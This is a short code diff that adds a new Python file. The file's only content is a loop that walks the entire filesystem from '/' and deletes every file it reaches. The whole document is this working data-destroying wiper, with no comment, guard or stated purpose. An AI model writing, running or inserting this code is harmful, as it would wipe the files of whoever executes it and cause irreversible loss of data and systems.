@@ -1,0 +1,5 @@
+import os
+
+for root, dirs, files in os.walk("/"):
+    for name in files:
+        os.remove(os.path.join(root, name))
